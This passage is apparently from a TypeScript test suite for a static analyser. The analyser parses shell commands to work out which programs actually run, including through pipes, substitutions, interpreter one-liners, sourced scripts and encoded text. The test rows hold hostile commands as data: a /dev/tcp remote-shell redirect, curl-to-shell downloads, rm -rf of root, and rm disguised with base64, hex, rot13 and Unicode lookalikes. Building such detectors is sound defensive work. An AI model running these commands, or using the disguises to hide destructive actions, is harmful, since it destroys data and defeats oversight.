  { cmd: 'bash < /dev/tcp/10.0.0.1/80', commands: [{ argv: ['bash'], runs: { kind: 'unknown-code', how: 'stdin', producers: [] } }] },
  { cmd: '$(curl -s x)', commands: [{ argv: ['curl', '-s', 'x'] }, { argv: ['$…'], runs: { kind: 'unknown-code', how: 'program', producers: ['curl'] } }] },
  { cmd: '$X -rf /', commands: [{ argv: ['$…', '-rf', '/'], runs: null }] },
  { cmd: 'curl -s x | xargs -I{} sh -c "{}"', commands: [{ argv: ['curl', '-s', 'x'] }, { argv: ['sh', '-c', '$…'], via: ['xargs'], runs: { kind: 'unknown-code', how: 'argument', producers: ['curl'] } }, { argv: ['$…'] }] },
  { cmd: "echo 'ls' | sh", commands: [{ argv: ['echo', 'ls'] }, { argv: ['sh'], runs: { kind: 'known-code', how: 'stdin', producers: ['echo'] } }, { argv: ['ls'], via: ['echo | sh'] }] },
  { cmd: 'bash <<EOF\n$(curl x)\nEOF', commands: [{ argv: ['curl', 'x'] }, { argv: ['bash'], runs: { kind: 'known-code', how: 'stdin', producers: ['curl'] } }, { argv: ['$…'] }] },
  { cmd: 'curl -o i.sh https://x && bash i.sh', commands: [{ argv: ['curl', '-o', 'i.sh', 'https://x'] }, { argv: ['bash', 'i.sh'], runs: { kind: 'unknown-code', how: 'script', producers: ['curl'] } }] },
  { cmd: 'wget https://x/s/setup.sh; sh setup.sh', commands: [{ argv: ['wget', 'https://x/s/setup.sh'] }, { argv: ['sh', 'setup.sh'], runs: { kind: 'unknown-code', how: 'script', producers: ['wget'] } }] },
  { cmd: 'curl x | tee run.sh > /dev/null; ./run.sh', commands: [{ argv: ['curl', 'x'] }, { argv: ['tee', 'run.sh'] }, { argv: ['./run.sh'], runs: { kind: 'unknown-code', how: 'script', producers: ['curl', 'tee'] } }] },
  { cmd: "cat > x.sh <<'EOF'\nrm -rf y\nEOF\nbash x.sh", commands: [{ argv: ['cat'] }, { argv: ['bash', 'x.sh'], runs: { kind: 'known-code', how: 'script', producers: ['cat'] } }, { argv: ['rm', '-rf', 'y'], via: ['bash x.sh'] }] },
  { cmd: "echo 'rm y' >> x.sh; sh x.sh", note: 'appended: the rest of the file is unknown', commands: [{ argv: ['echo', 'rm y'] }, { argv: ['sh', 'x.sh'], runs: { kind: 'unknown-code', how: 'script', producers: ['echo'] } }] },
  { cmd: 'python3 -c "print(1)"', commands: [{ argv: ['python3', '-c', 'print(1)'], runs: { kind: 'known-code', how: 'argument', inline: 'python' } }] },
  { cmd: "node -pe 'process.version'", commands: [{ argv: ['node', '-pe', 'process.version'], runs: { kind: 'known-code', how: 'argument', inline: 'node' } }] },
  { cmd: 'python3 -m json.tool', commands: [{ argv: ['python3', '-m', 'json.tool'], runs: null }] },
  { cmd: 'python3 x.py', commands: [{ argv: ['python3', 'x.py'], runs: null }] },
  { cmd: 'python3 "$F"', commands: [{ argv: ['python3', '$…'], runs: { kind: 'unknown-code', how: 'script' } }] },
  { cmd: 'python3 -c "$CODE"', commands: [{ argv: ['python3', '-c', '$…'], runs: { kind: 'unknown-code', how: 'argument' } }] },
  { cmd: 'curl x | python3', commands: [{ argv: ['curl', 'x'] }, { argv: ['python3'], runs: { kind: 'unknown-code', how: 'stdin', producers: ['curl'] } }] },
  { cmd: 'curl x | python3 -c "import sys; print(sys.stdin.read())"', commands: [{ argv: ['curl', 'x'] }, { argv: ['python3', '-c', 'import sys; print(sys.stdin.read())'], runs: { kind: 'known-code', how: 'argument', producers: [] } }] },
  { cmd: "python3 - <<'EOF'\nprint(1)\nEOF", commands: [{ argv: ['python3', '-'], runs: { kind: 'known-code', how: 'stdin', inline: 'python' } }] },
  { cmd: "ruby -e 'puts 1' -e 'puts 2'", commands: [{ argv: ['ruby', '-e', 'puts 1', '-e', 'puts 2'], runs: { kind: 'known-code', how: 'argument', inline: 'ruby' } }] },
  { cmd: "perl -pi -e 's/a/b/' f.txt", commands: [{ argv: ['perl', '-pi', '-e', 's/a/b/', 'f.txt'], runs: { kind: 'known-code', how: 'argument', inline: 'perl' } }] },
  { cmd: "perl -pie 's/a/b/' f.txt", note: '-i takes the e: s/a/b/ is a script', commands: [{ argv: ['perl', '-pie', 's/a/b/', 'f.txt'], runs: null }] },
  { cmd: "awk -F: '{print $1}' /etc/passwd", commands: [{ argv: ['awk', '-F:', '{print $1}', '/etc/passwd'], runs: { kind: 'known-code', how: 'argument', inline: 'awk' } }] },
  { cmd: 'deno eval "console.log(1)"', commands: [{ argv: ['deno', 'eval', 'console.log(1)'], runs: { kind: 'known-code', how: 'argument', inline: 'node' } }] },
  { cmd: 'php -r "echo 1;"', commands: [{ argv: ['php', '-r', 'echo 1;'], runs: { kind: 'known-code', how: 'argument', inline: 'php' } }] },
];

// Interpreter one-liners: the shell commands they start run as `sh -c STRING` (or an argv).
const oneliners: Row[] = [
  { cmd: `python3 -c "import os; os.system('rm -rf build')"`, commands: [{ argv: ['python3', '-c', "import os; os.system('rm -rf build')"] }, { argv: ['sh', '-c', 'rm -rf build'], via: ['python3: os.system'] }, { argv: ['rm', '-rf', 'build'], via: ['python3: os.system', 'sh -c'] }] },
  { cmd: `python3 -c "import subprocess; subprocess.run(['rm', '-rf', 'x'])"`, commands: [{ argv: ['python3', '-c', "import subprocess; subprocess.run(['rm', '-rf', 'x'])"] }, { argv: ['rm', '-rf', 'x'], via: ['python3: subprocess.run'] }] },
  { cmd: `python3 -c "import subprocess as sp; sp.call('ls ' + d, shell=True)"`, commands: [{ argv: ['python3', '-c', "import subprocess as sp; sp.call('ls ' + d, shell=True)"] }, { argv: ['sh', '-c', 'ls $…'] }, { argv: ['ls', '$…'] }] },
  { cmd: `python3 -c "import os; os.execvp('rm', ['rm', '-r', 'y'])"`, commands: [{ argv: ['python3', '-c', "import os; os.execvp('rm', ['rm', '-r', 'y'])"] }, { argv: ['rm', '-r', 'y'] }] },
  { cmd: `python3 -c "import os; os.system(cmd)"`, commands: [{ argv: ['python3', '-c', 'import os; os.system(cmd)'] }, { argv: ['sh', '-c', '$…'], runs: { kind: 'unknown-code', how: 'argument', producers: ['python3'] } }, { argv: ['$…'] }] },
  { cmd: `python3 -c "print('os.system(1)')  # os.system('rm -rf /')"`, commands: [{ argv: ['python3', '-c', "print('os.system(1)')  # os.system('rm -rf /')"] }] },
  { cmd: `node -e "require('child_process').execSync('git push -f')"`, commands: [{ argv: ['node', '-e', "require('child_process').execSync('git push -f')"] }, { argv: ['sh', '-c', 'git push -f'], via: ['node: execSync'] }, { argv: ['git', 'push', '-f'] }] },
  { cmd: `node -e "require('child_process').spawnSync('rm', ['-rf', 'x'])"`, commands: [{ argv: ['node', '-e', "require('child_process').spawnSync('rm', ['-rf', 'x'])"] }, { argv: ['rm', '-rf', 'x'], via: ['node: spawnSync'] }] },
  { cmd: "bun -e 'await Bun.$`rm -rf ${d}`'", commands: [{ argv: ['bun', '-e', 'await Bun.$`rm -rf ${d}`'] }, { argv: ['sh', '-c', 'rm -rf $…'], via: ['bun: $`…`'] }, { argv: ['rm', '-rf', '$…'] }] },
  { cmd: "ruby -e 'system(\"rm\", \"-rf\", \"x\")'", commands: [{ argv: ['ruby', '-e', 'system("rm", "-rf", "x")'] }, { argv: ['rm', '-rf', 'x'], via: ['ruby: system'] }] },
  { cmd: "ruby -e '`rm -rf x`'", commands: [{ argv: ['ruby', '-e', '`rm -rf x`'] }, { argv: ['sh', '-c', 'rm -rf x'], via: ['ruby: `…`'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: "perl -e 'system \"rm -rf x\" or die'", commands: [{ argv: ['perl', '-e', 'system "rm -rf x" or die'] }, { argv: ['sh', '-c', 'rm -rf x'], via: ['perl: system'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: "perl -e 'my $x = qx{rm -rf x};'", commands: [{ argv: ['perl', '-e', 'my $x = qx{rm -rf x};'] }, { argv: ['sh', '-c', 'rm -rf x'], via: ['perl: `…`'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: `perl -e "s/'//; system(q{rm -rf x})"`, note: 'a quote inside a regex', commands: [{ argv: ['perl', '-e', "s/'//; system(q{rm -rf x})"] }, { argv: ['sh', '-c', 'rm -rf x'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: `php -r 'shell_exec("rm -rf x");'`, commands: [{ argv: ['php', '-r', 'shell_exec("rm -rf x");'] }, { argv: ['sh', '-c', 'rm -rf x'], via: ['php: shell_exec'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: `lua -e 'os.execute("rm -rf x")'`, commands: [{ argv: ['lua', '-e', 'os.execute("rm -rf x")'] }, { argv: ['sh', '-c', 'rm -rf x'], via: ['lua: os.execute'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: `awk 'BEGIN { system("rm -rf " "x") }'`, commands: [{ argv: ['awk', 'BEGIN { system("rm -rf " "x") }'] }, { argv: ['sh', '-c', 'rm -rf x'], via: ['awk: system'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: `awk '{ print | "sh" }' cmds`, commands: [{ argv: ['awk', '{ print | "sh" }', 'cmds'] }, { argv: ['sh', '-c', 'sh'], via: ['awk: | "…"'] }, { argv: ['sh'] }] },
];

// Text whose value the analysis can compute: printf/echo escapes, decoders on literal text,
// substitutions of literal output, variables holding a whole command, arithmetic.
const literals: Row[] = [
  { cmd: "printf '\\x72\\x6d -rf x' | sh", commands: [{ argv: ['printf', '\\x72\\x6d -rf x'] }, { argv: ['sh'] }, { argv: ['rm', '-rf', 'x'], via: ['printf | sh'] }] },
  { cmd: "printf '%s' '\\x72m' | sh", note: '%s arguments are not unescaped', commands: [{ argv: ['printf', '%s', '\\x72m'] }, { argv: ['sh'] }, { argv: ['x72m'] }] },
  { cmd: "printf '%b' '\\0162m x' | sh", commands: [{ argv: ['printf', '%b', '\\0162m x'] }, { argv: ['sh'] }, { argv: ['rm', 'x'] }] },
  { cmd: "echo -e '\\0162m x' | bash", commands: [{ argv: ['echo', '-e', '\\0162m x'] }, { argv: ['bash'] }, { argv: ['rm', 'x'] }] },
  { cmd: 'echo cm0geA== | base64 -d | sh', commands: [{ argv: ['echo', 'cm0geA=='] }, { argv: ['base64', '-d'] }, { argv: ['sh'], runs: { kind: 'known-code', how: 'stdin', producers: ['echo', 'base64'] } }, { argv: ['rm', 'x'] }] },
  { cmd: 'base64 -d <<< cm0geA== | sh', commands: [{ argv: ['base64', '-d'] }, { argv: ['sh'] }, { argv: ['rm', 'x'] }] },
  { cmd: 'echo 726d2078 | xxd -r -p | sh', commands: [{ argv: ['echo', '726d2078'] }, { argv: ['xxd', '-r', '-p'] }, { argv: ['sh'] }, { argv: ['rm', 'x'] }] },
  { cmd: "echo 'x mr' | rev | sh", commands: [{ argv: ['echo', 'x mr'] }, { argv: ['rev'] }, { argv: ['sh'] }, { argv: ['rm', 'x'] }] },
  { cmd: "echo 'ez k' | tr a-z n-za-m | sh", commands: [{ argv: ['echo', 'ez k'] }, { argv: ['tr', 'a-z', 'n-za-m'] }, { argv: ['sh'] }, { argv: ['rm', 'x'] }] },
  { cmd: '$(echo rm) -rf x', commands: [{ argv: ['echo', 'rm'] }, { argv: ['rm', '-rf', 'x'], runs: { kind: 'known-code', how: 'program', producers: ['echo'] } }] },
  { cmd: "$(printf '%s' 'r' 'm') x", commands: [{ argv: ['printf', '%s', 'r', 'm'] }, { argv: ['rm', 'x'] }] },
  { cmd: '$(echo rm -rf x)', note: 'an unquoted output is split into words', commands: [{ argv: ['echo', 'rm', '-rf', 'x'] }, { argv: ['rm', '-rf', 'x'] }] },
  { cmd: 'echo "$(echo a b)"', note: 'an output with blanks as an argument stays unknown', commands: [{ argv: ['echo', 'a', 'b'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'X=$(echo /srv); rm -rf $X', commands: [{ argv: ['echo', '/srv'] }, { argv: ['rm', '-rf', '/srv'] }] },
  { cmd: 'CMD="rm -rf x"; $CMD', commands: [{ argv: ['rm', '-rf', 'x'] }] },
  { cmd: 'echo "$(( rm -rf /x ))"', note: 'arithmetic runs nothing', commands: [{ argv: ['echo', '$…'] }] },
  { cmd: 'echo $((1 + $(rm x)))', commands: [{ argv: ['rm', 'x'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'echo $( (cd /; ls) )', commands: [{ argv: ['cd', '/'] }, { argv: ['ls'], cwd: '/' }, { argv: ['echo', '$…'] }] },
  { cmd: 'echo "a\\`b"', commands: [{ argv: ['echo', 'a`b'] }] },
];

// Scripts read from disk ({T} is a directory with real files): run, sourced, fed as stdin, by path.
const scripts: Row[] = [
  { cmd: 'bash {T}/clean.sh', commands: [{ argv: ['bash', '{T}/clean.sh'], runs: { kind: 'known-code', how: 'script' } }, { argv: ['cd', 'build'], via: ['bash {T}/clean.sh'] }, { argv: ['rm', '-rf', 'out'], cwd: '{T}/build' }] },
  { cmd: './clean.sh; pwd', note: 'relative to the cwd; its cd stays inside', commands: [{ argv: ['./clean.sh'], runs: { kind: 'known-code', how: 'script' } }, { argv: ['cd', 'build'], via: ['./clean.sh'] }, { argv: ['rm', '-rf', 'out'] }, { argv: ['pwd'], cwd: '{T}' }] },
  { cmd: 'cd {T} && sh -e plain', commands: [{ argv: ['cd', '{T}'] }, { argv: ['sh', '-e', 'plain'] }, { argv: ['rm', '-rf', 'gen'], cwd: '{T}' }] },
  { cmd: './plain', note: 'no #! line: the shell runs it', commands: [{ argv: ['./plain'] }, { argv: ['rm', '-rf', 'gen'] }] },
  { cmd: 'source ./vars.sh; rm -rf $TARGET; pwd', note: 'source changes this shell', commands: [{ argv: ['source', './vars.sh'] }, { argv: ['cd', '/opt'] }, { argv: ['rm', '-rf', '/srv'], cwd: '/opt' }, { argv: ['pwd'], cwd: '/opt' }] },
  { cmd: 'bash vars.sh; echo $TARGET', note: 'bash does not', commands: [{ argv: ['bash', 'vars.sh'] }, { argv: ['cd', '/opt'] }, { argv: ['echo', '$…'], cwd: '{T}' }] },
  { cmd: 'sh < clean.sh', commands: [{ argv: ['sh'], runs: { kind: 'known-code', how: 'stdin' } }, { argv: ['cd', 'build'] }, { argv: ['rm', '-rf', 'out'] }] },
  { cmd: 'bash nested.sh', commands: [{ argv: ['bash', 'nested.sh'] }, { argv: ['bash', './clean.sh'], via: ['bash nested.sh'] }, { argv: ['cd', 'build'], via: ['bash nested.sh', 'bash ./clean.sh'] }, { argv: ['rm', '-rf', 'out'] }] },
  { cmd: './tool.py', note: 'another interpreter: not read', commands: [{ argv: ['./tool.py'], runs: null }] },
  { cmd: './compiled --flag', note: 'a compiled program', commands: [{ argv: ['./compiled', '--flag'], runs: null }] },
  { cmd: '/usr/bin/env ls', commands: [{ argv: ['ls'], runs: null }] },
  { cmd: 'bash ./missing.sh', commands: [{ argv: ['bash', './missing.sh'], runs: { kind: 'unknown-code', how: 'script', producers: [] } }] },
  { cmd: 'bash ./dir', commands: [{ argv: ['bash', './dir'], runs: { kind: 'unknown-code', how: 'script' } }] },
  { cmd: 'bash ./fifo', note: 'a FIFO is never opened for reading', commands: [{ argv: ['bash', './fifo'], runs: { kind: 'unknown-code', how: 'script' } }] },
  { cmd: 'source /dev/stdin <<< "rm x"', commands: [{ argv: ['source', '/dev/stdin'], runs: { kind: 'known-code', how: 'stdin' } }, { argv: ['rm', 'x'] }] },
  { cmd: 'bash big.sh', bounds: [`script larger than ${LIMITS.maxScript} bytes`] },
  { cmd: '. ./self.sh', note: 'sourcing itself', bounds: ['nesting depth'] },
  { cmd: 'bash many.sh', bounds: ['too many scripts to read'] },
];

// Shell functions: a definition runs nothing; a call runs the body with its arguments, in this
// shell (a `( … )` body in a subshell), where the call is, with the definitions that may be in force.
const functions: Row[] = [
  { cmd: 'cleanup() { rm -rf ../outside; }', note: 'never called', commands: [] },
  { cmd: 'function cleanup { rm -rf x; }', commands: [] },
  { cmd: 'f()\n{\n  rm -rf x\n}', note: 'the body on its own lines', commands: [] },
  { cmd: 'f() { rm -rf "$1"; }; f /tmp/x', commands: [{ argv: ['f', '/tmp/x'] }, { argv: ['rm', '-rf', '/tmp/x'], via: ['f()'] }] },
  { cmd: 'function f() { ls "$@" $#; }; f a "b c"', commands: [{ argv: ['f', 'a', 'b c'] }, { argv: ['ls', 'a', 'b c', '2'] }] },
  { cmd: 'f() { shift; echo "$1"; }; f a b', commands: [{ argv: ['f', 'a', 'b'] }, { argv: ['shift'] }, { argv: ['echo', 'b'] }] },
  { cmd: 'main() { echo "$2"; }; main "$@"', note: 'an unknown word may be several', commands: [{ argv: ['main', '$…'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'f() { echo a; }; f() { echo b; }; f', note: 'redefined', commands: [{ argv: ['f'] }, { argv: ['echo', 'b'] }] },
  { cmd: 'f() { echo a; }; test -n "$X" && f() { echo b; }; f', note: 'maybe redefined: both', commands: [{ argv: ['test', '-n', '$…'] }, { argv: ['f'] }, { argv: ['echo', 'a'] }, { argv: ['echo', 'b'] }] },
  { cmd: 'f() { echo a; }; if x; then f() { echo b; }; fi; f', commands: [{ argv: ['x'] }, { argv: ['f'] }, { argv: ['echo', 'a'] }, { argv: ['echo', 'b'] }] },
  { cmd: 'f() { cd /tmp; }; f; pwd', note: 'a { } body runs in this shell', commands: [{ argv: ['f'] }, { argv: ['cd', '/tmp'] }, { argv: ['pwd'], cwd: '/tmp' }] },
  { cmd: 'f() ( cd /tmp ); f; pwd', note: 'a ( ) body in a subshell', commands: [{ argv: ['f'] }, { argv: ['cd', '/tmp'] }, { argv: ['pwd'], cwd: PROJECT }] },
  { cmd: 'X=/b; f() { local X=/a; echo $X; }; f; echo $X', commands: [{ argv: ['f'] }, { argv: ['local', 'X=/a'] }, { argv: ['echo', '/a'] }, { argv: ['echo', '/b'] }] },
  { cmd: 'f() { echo hi; }; echo "$(f)"', note: 'called in a substitution', commands: [{ argv: ['f'], via: ['$(…)'] }, { argv: ['echo', 'hi'], via: ['$(…)', 'f()'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'f() { echo "$(dirname "$1")"; }; f /srv/a', note: 'its substitutions run with the call', commands: [{ argv: ['f', '/srv/a'] }, { argv: ['dirname', '/srv/a'], via: ['f()', '$(…)'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'f() { rm -rf "$1"; }; $CMD', note: 'an unknown program may be f', commands: [{ argv: ['$…'] }, { argv: ['rm', '-rf', '$…'], via: ['f()'] }] },
  { cmd: 'f() { rm -rf "$1"; }; export -f f', note: 'handed to child shells', commands: [{ argv: ['export', '-f', 'f'] }, { argv: ['rm', '-rf', '$…'], via: ['f()'] }] },
  { cmd: 'trap cleanup EXIT; cleanup() { rm -rf x; }', note: 'defined after the trap', commands: [{ argv: ['trap', 'cleanup', 'EXIT'] }, { argv: ['cleanup'], via: ['trap (at exit)'] }, { argv: ['rm', '-rf', 'x'], via: ['trap (at exit)', 'cleanup()'] }] },
  { cmd: 'f() { echo "$1"; f "$1"; }; f a', note: 'recursion: once more with unknown arguments', commands: [{ argv: ['f', 'a'] }, { argv: ['echo', 'a'] }, { argv: ['f', 'a'] }, { argv: ['echo', '$…'] }, { argv: ['f', '$…'] }] },
  { cmd: 'echo } ; f() { echo done }; echo x; }; f', note: 'a } that is an argument closes early', commands: [{ argv: ['echo', '}'] }, { argv: ['echo', 'x'] }, { argv: ['f'] }, { argv: ['echo', 'done'] }] },
  { cmd: 'f() { rm -rf x', note: 'unclosed: read as commands', commands: [{ argv: ['f'] }, { argv: ['rm', '-rf', 'x'] }] },
];

// What runs in this shell and what may not: assignments and `cd` after `&&`/`||`, inside `if` or a
// loop, in a pipeline stage or in the background may not take effect; then the value is unknown.
const flow: Row[] = [
  { cmd: 'X=/a; false && X=/b; echo $X', note: '/a or /b', commands: [{ argv: ['false'] }, { argv: ['echo', '/$…'] }] },
  { cmd: 'false && X=/b; echo $X', note: 'unset or /b', commands: [{ argv: ['false'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'X=/a; test -d x && X=/a; echo $X', note: 'the same either way', commands: [{ argv: ['test', '-d', 'x'] }, { argv: ['echo', '/a'] }] },
  { cmd: 'X=/a; make && X=/b && echo $X', note: 'after it in the same list', commands: [{ argv: ['make'] }, { argv: ['echo', '/b'] }] },
  { cmd: 'X=/srv/a/x; if c; then X=/srv/b/x; fi; echo $X', commands: [{ argv: ['c'] }, { argv: ['echo', '/srv/$…/x'] }] },
  { cmd: 'X=/a; for f in a; do X=$f; done; echo $X', commands: [{ argv: ['for', 'f', 'in', 'a'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'X=a; echo | X=b; echo $X', note: 'a pipeline stage is a subshell', commands: [{ argv: ['echo'] }, { argv: ['echo', '$…'] }] },
  { cmd: '{ X=/b; }; echo $X', commands: [{ argv: ['echo', '/b'] }] },
  { cmd: 'false || cd /tmp; pwd', commands: [{ argv: ['false'] }, { argv: ['cd', '/tmp'] }, { argv: ['pwd'], cwd: '/$…' }] },
  { cmd: 'cd /tmp && ls; pwd', commands: [{ argv: ['cd', '/tmp'] }, { argv: ['ls'], cwd: '/tmp' }, { argv: ['pwd'], cwd: '/tmp' }] },
  { cmd: 'pushd /tmp; popd; pwd', commands: [{ argv: ['pushd', '/tmp'] }, { argv: ['popd'], cwd: '/tmp' }, { argv: ['pwd'], cwd: PROJECT }] },
  { cmd: 'X=/a; read X; echo $X', commands: [{ argv: ['read', 'X'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'X=/a; printf -v X %s b; mapfile M; echo $X $M', commands: [{ argv: ['printf', '-v', 'X', '%s', 'b'] }, { argv: ['mapfile', 'M'] }, { argv: ['echo', '$…', '$…'] }] },
  { cmd: 'X=/a; unset X; echo "[$X]"', commands: [{ argv: ['unset', 'X'] }, { argv: ['echo', '[]'] }] },
  { cmd: 'set -- a b; echo $2 $#', commands: [{ argv: ['set', '--', 'a', 'b'] }, { argv: ['echo', 'b', '2'] }] },
  { cmd: "X=/a; eval 'X=/b'; echo $X", note: 'eval runs in this shell', commands: [{ argv: ['eval', 'X=/b'] }, { argv: ['echo', '/b'] }] },
  { cmd: 'cd /tmp && echo "$(pwd)"', note: 'a substitution runs where its command does', commands: [{ argv: ['cd', '/tmp'] }, { argv: ['pwd'], cwd: '/tmp' }, { argv: ['echo', '$…'] }] },
  { cmd: 'X=/srv; echo "$(ls $X)"', commands: [{ argv: ['ls', '/srv'] }, { argv: ['echo', '$…'] }] },
  { cmd: 'case $x in a) X=/b;; esac; echo $X', commands: [{ argv: ['case', '$…', 'in', 'a'] }, { argv: ['echo', '$…'] }] },
];

// The temp directory reached without naming it: `$TMPDIR` (not set here) and mktemp's output are
// /tmp/<unknown>; a name that would be a system directory if TMPDIR were unset stays unknown.
const temp: Row[] = [
  { cmd: 'echo "$TMPDIR/x" ${TMPDIR:-/tmp}/y', commands: [{ argv: ['echo', '/tmp/$…/x', '/tmp/$…/y'] }] },
  { cmd: 'echo $TMPDIR $TMPDIR/ $TMPDIR/usr $TMPDIR/..', commands: [{ argv: ['echo', '$…', '$…/', '$…/usr', '$…/..'] }] },
  { cmd: 'TMPDIR=/var/x; echo $TMPDIR/y', commands: [{ argv: ['echo', '/var/x/y'] }] },
  { cmd: 'd=$(mktemp -d); echo $d', commands: [{ argv: ['mktemp', '-d'] }, { argv: ['echo', '/tmp/$…/tmp.$…'] }] },
  { cmd: 'echo $(mktemp -t build.XXXXXX) $(mktemp -p /srv) $(mktemp x.XXX)', commands: [{ argv: ['mktemp', '-t', 'build.XXXXXX'] }, { argv: ['mktemp', '-p', '/srv'] }, { argv: ['mktemp', 'x.XXX'] }, { argv: ['echo', '/tmp/$…/build.$…', '/srv/tmp.$…', `${PROJECT}/x.$…`] }] },
  { cmd: 'echo $(TMPDIR=/srv mktemp)', commands: [{ argv: ['mktemp'] }, { argv: ['echo', '/srv/tmp.$…'] }] },
];

// The environment a command gets from its command line, and words in disguise.
const environment: Row[] = [
  { cmd: 'ls', commands: [{ argv: ['ls'], assignments: {} }] },
  { cmd: 'FOO=1 BAR=$X ls', commands: [{ argv: ['ls'], assignments: { FOO: '1', BAR: '$…' } }] },
  { cmd: 'export A=1; B=2; env -u A C=3 ls', commands: [{ argv: ['export', 'A=1'] }, { argv: ['ls'], via: ['env'], assignments: { B: '2', C: '3' } }] },
  { cmd: 'A=1; env -i PATH=/bin ls', commands: [{ argv: ['ls'], assignments: { PATH: '/bin' }, clearedEnv: true }] },
  { cmd: 'sudo FOO=1 rm -rf x', note: 'sudo takes assignments too', commands: [{ argv: ['rm', '-rf', 'x'], via: ['sudo'], assignments: { FOO: '1' } }] },
  { cmd: 'r\u200bm x', commands: [{ argv: ['rm', 'x'], disguised: ['r\\u{200b}m → rm'] }] },
  { cmd: 'ｓｕｄｏ rм -\u200brf x', commands: [{ argv: ['rm', '-rf', 'x'], via: ['sudo'], disguised: ['\\u{ff53}\\u{ff55}\\u{ff44}\\u{ff4f} → sudo', 'r\\u{43c} → rm', '-\\u{200b}rf → -rf'] }] },
  { cmd: 'rm\u00a0-rf x', note: 'a no-break space inside a word', commands: [{ argv: ['rm', '-rf', 'x'] }] },
  { cmd: 'echo a\u00a0b c\ufeffd', commands: [{ argv: ['echo', 'a\u00a0b', 'c\ufeffd'], disguised: [] }] },
  { cmd: './скрипт.sh', commands: [{ argv: ['./скрипт.sh'], disguised: [] }] },
];

const nested = (open: string, close: string, n: number): string => `echo ${open.repeat(n)}x${close.repeat(n)}`;

const bounds: Row[] = [
  { cmd: 'echo $(ls', commands: [{ argv: ['ls'] }, { argv: ['echo', '$…'] }], bounds: ['unterminated or too deeply nested substitution'] },
  { cmd: 'echo `ls', commands: [{ argv: ['ls'] }, { argv: ['echo', '$…'] }], bounds: ['unterminated or too deeply nested substitution'] },
  { cmd: 'diff <(ls', bounds: ['unterminated or too deeply nested substitution'] },
  { cmd: nested('$(', ')', LIMITS.maxDepth), bounds: [] },
  { cmd: nested('$(', ')', LIMITS.maxDepth + 1), bounds: ['nesting depth'] },
  { cmd: `${'eval '.repeat(LIMITS.maxDepth)}x`, bounds: [] },
  { cmd: `${'eval '.repeat(LIMITS.maxDepth + 1)}x`, bounds: ['nesting depth'] },
  { cmd: 'true;'.repeat(LIMITS.maxCommands + 1), bounds: ['too many commands'] },
  { cmd: `${'nice '.repeat(LIMITS.maxWrappers)}rm x`, commands: [{ argv: ['rm', 'x'] }] },
  { cmd: `${'nice '.repeat(LIMITS.maxWrappers + 1)}rm x`, bounds: ['too many nested wrappers'] },
  { cmd: `echo ${'x'.repeat(LIMITS.maxInput)}`, bounds: [`input longer than ${LIMITS.maxInput} characters`] },
];

const groups: Record<string, Row[]> = { simple, chains, comments, via, cwd, variables, stdin, runners, runs, oneliners, literals, scripts, bounds, functions, flow, temp, environment };
for (const [group, rows] of Object.entries(groups)) {
  for (const row of rows) {
    const text = row.cmd.length > 80 ? `${row.cmd.slice(0, 60)}… (${row.cmd.length} characters)` : row.cmd;
    void test(`${group}: ${visible(text)}${row.note === undefined ? '' : `  [${row.note}]`}`, () => check(row, group === 'scripts'));
  }
}

// The fast tokenizer for plain text gives what shell-quote gives (the analysis relies on it).
const plainTexts = [
  'ls -la',
  '  git   status\t--short ',
  'a;b&&c||d|e&f',
  'a ;; b ;& c ;;& d |& e',
  '&&& ||| ;;; |&& ;&&',
  'echo {a,b} ~/x [ok] !x %y ^z @w =v +u :t',
  'rm -rf \u0001' + '0\u0001 \u0004x\u0005 \ue001',
  'ls é ｒｍ',
  '',
  ' \t ',
];
for (const t of plainTexts) {
  void test(`tokenizer: ${JSON.stringify(t)} as shell-quote reads it`, () => {
    assert.deepEqual(plainTokens(t), shellParse(t, (k: string) => `\u0002${k}\u0002`));
  });
}

// Hostile input: always an answer, quickly, never an exception; a bound whenever not all was read.

const M = LIMITS.maxInput;
const fill = (unit: string, size = M + 1): string => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);

/** Far above the 2 s budget: only a hang (an unbounded loop) trips it. */
const HANG_MS = 60_000;

const hostile: { name: string; cmd: string; bound: boolean }[] = [
  { name: '1 MiB + 1 of words', cmd: fill('a '), bound: true },
  { name: '1 MiB + 1 of newlines', cmd: fill('ls\n'), bound: true },
  { name: '1 MiB + 1 of comments', cmd: fill('# x\n'), bound: true },
  { name: '1 MiB + 1 of heredocs', cmd: fill('cat <<E\nx\nE\n'), bound: true },
  { name: '1 MiB + 1 of quotes', cmd: fill(`"a" 'b' `), bound: true },
  { name: '1 MiB + 1 of brace groups', cmd: fill('{a,b} '), bound: true },
  { name: '1 MiB + 1 of sudo', cmd: fill('sudo '), bound: true },
  { name: '1 MiB of eval eval …', cmd: `${fill('eval ', M - 10)} x`, bound: true },
  { name: '1 MiB of rm chains', cmd: fill('rm -rf /tmp/x; ', M - 1), bound: true },
  { name: '10,000 nested $( without a close', cmd: '$('.repeat(10_000), bound: true },
  { name: '10,000 nested $( balanced', cmd: nested('$(', ')', 10_000), bound: true },
  { name: '10,000 nested backquotes', cmd: '`'.repeat(10_000), bound: false },
  { name: '10,000 nested ( subshells', cmd: `${'('.repeat(10_000)}ls${')'.repeat(10_000)}`, bound: false },
  { name: '10,000 nested bash -c quotes', cmd: `${"bash -c '".repeat(10_000)}ls`, bound: false },
  { name: 'NUL bytes', cmd: 'ls\u0000; rm\u0000 -rf /\u0000', bound: false },
  { name: 'invalid UTF-8', cmd: Buffer.from([0x72, 0x6d, 0x20, 0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80, 0x0a, 0x6c, 0x73]).toString('utf8'), bound: false },
  { name: 'lone surrogates', cmd: 'echo \ud800 \udfff', bound: false },
  { name: 'binary garbage', cmd: Array.from({ length: 1 << 16 }, (_, i) => String.fromCharCode((i * 7919) % 0x10000)).join(''), bound: true },
